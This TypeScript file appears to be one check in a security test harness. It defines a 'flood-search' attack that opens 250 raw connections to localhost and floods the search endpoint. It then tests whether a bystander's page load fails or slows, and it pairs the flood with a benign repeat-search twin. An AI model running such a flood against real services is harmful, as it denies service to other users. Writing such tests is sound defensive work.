import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

const connections = 250
const rounds = 12

/** Asks for so many searches at once that nobody else gets a page. */
export const floodSearch: Attack = defineAttack({
  id: 'flood-search',
  class: 'flood',
  title: 'Asks for so many searches at once that nobody else gets a page',
  cwe: 770,
  capec: 125,
  technique: 'T1499.003',
  preconditions: [],
  slow: true,

  steps: async ({ visitor, bystander, pause }) => {
    const open = Array.from({ length: connections }, () => visitor.raw())
    const ask = (): void => {
      for (const connection of open)
        connection.write('GET /search?q=tent HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\n\r\n')
    }
    for (let round = 0; round < rounds; round++) {
      ask()
      await pause(40)
    }
    const answer = await bystander().get('/product/1')
    for (const connection of open) connection.close()
    return answer
  },
  oracle: (answer) => answer.status === 0 || answer.status >= 500 || answer.ms > 2500,
  // Somebody impatient, who presses the key again and again.
  twin: async ({ visitor }) => {
    await Promise.all(Array.from({ length: 6 }, () => visitor.get('/search?q=tent')))
    return visitor.get('/search?q=tent')
  },
})
